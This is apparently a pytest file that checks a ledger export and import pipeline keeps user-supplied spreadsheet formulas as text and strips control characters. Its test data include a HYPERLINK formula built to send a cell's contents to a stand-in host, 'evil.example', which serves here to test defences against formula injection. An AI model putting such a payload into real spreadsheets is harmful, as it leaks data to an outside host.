"""Formulas and control characters from users and files stay text in every ledger."""

# ruff: noqa: F811 -- fixtures imported from tests/pipelines/store/conftest.py

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pipelines.publish.export import export
from pipelines.verify.ledger_import import import_ledger
from pipelines.verify.status import current_state, history, set_status
from tests.pipelines.store.conftest import (  # noqa: F401
    any_classified,
    any_workspace,
    gpkg_workspace,
    pg_database,
    pg_schema_url,
    pg_workspace,
)

NOTE = '=HYPERLINK("http://evil.example/?q="&A2,"详情")'
UNIT = "=1+1"
MEASURES = "@SUM(A1:A9)"
OPINION = "-2+3"


def _ledgers(out: Path, lead: str = "L002") -> tuple[Path, Path]:
    """The XLSX and CSV ledgers that list ``lead``."""
    for csv_path in sorted(out.rglob("*.csv")):
        if f"{lead}," in csv_path.read_text(encoding="utf-8-sig"):
            return csv_path.with_suffix(".xlsx"), csv_path
    raise AssertionError(f"no ledger lists {lead}")


@pytest.fixture
def formulas(classified, tmp_path):
    set_status(classified, "L002", "问题", by="张三", note=NOTE, opinion=OPINION)
    set_status(classified, "L002", "整改中", by="张三", responsible_unit=UNIT,
               measures=MEASURES, deadline="2025-06-30")
    export(classified, tmp_path / "out", formats=("xlsx", "csv"))
    return (classified, *_ledgers(tmp_path / "out"))


def test_formulas_are_string_cells_in_the_xlsx(formulas):
    _, xlsx, _ = formulas
    sheet = load_workbook(xlsx)["台账"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (UNIT, MEASURES, OPINION):
        assert text in cells, text
        assert cells[text].data_type == "s", text  # text, never a formula
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_formulas_are_quoted_in_the_csv(formulas):
    _, _, csv_path = formulas
    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines()))
    values = {v for row in rows for v in row}
    for text in (UNIT, MEASURES, OPINION):
        assert "'" + text in values and text not in values


@pytest.mark.parametrize("which", ["xlsx", "csv"])
def test_formulas_read_back_unchanged(formulas, which):
    ws, xlsx, csv_path = formulas
    before = current_state(ws, "L002")
    report = import_ledger(ws, xlsx if which == "xlsx" else csv_path, by="李四")
    assert report.count("applied") == 0, report.summary()
    after = current_state(ws, "L002")
    assert after["responsible_unit"] == UNIT and after["measures"] == MEASURES
    assert after["version"] == before["version"]


def test_control_characters_are_removed_on_the_way_in_and_recorded(any_classified, tmp_path):
    ws = any_classified
    set_status(ws, "L002", "问题", by="张\x00三", note="现场\x0b照片\x00已拍", opinion="疑\x1b似")
    state = current_state(ws, "L002")
    entry = history(ws, "L002").iloc[-1]
    assert entry["by"] == "张三"
    assert entry["note"].startswith("现场照片已拍") and "4 个控制字符已移除" in entry["note"]
    assert state["opinion"] == "疑似" if "opinion" in state else True
    report = export(ws, tmp_path / "out", formats=("xlsx", "csv", "kml"))
    assert report.files


def test_control_characters_already_stored_are_removed_on_the_way_out(classified, tmp_path):
    import pandas as pd

    classified.upsert_rows("lead_opinion", pd.DataFrame([{
        "lead_id": "L001", "opinion": "旧\x0b意见", "updated_at": "2024-01-01T00:00:00+00:00",
        "updated_by": "x"}]))
    export(classified, tmp_path / "out", formats=("xlsx", "csv", "kml"))
    xlsx, csv_path = _ledgers(tmp_path / "out", "L001")
    values = [c.value for row in load_workbook(xlsx)["台账"].iter_rows() for c in row]
    assert "旧意见" in values
    assert "旧意见" in csv_path.read_text(encoding="utf-8-sig")


def test_rejected_values_that_look_like_formulas_are_quoted_in_the_rejects_file(
        workspace, tmp_path):
    from pipelines.ingest.files import ingest

    source = tmp_path / "leads.csv"
    source.write_text("线索编号,批次,经度,纬度\nA1,2024,=1+1,43.5\nA2,2024,126.5,43.5\n",
                      encoding="utf-8")
    report = ingest(workspace, "leads", source, crs="EPSG:4490")
    assert report.rejected == 1
    rows = list(csv.reader(report.rejects_path.read_text(encoding="utf-8-sig").splitlines()))
    values = {v for row in rows for v in row}
    assert "'=1+1" in values and "=1+1" not in values
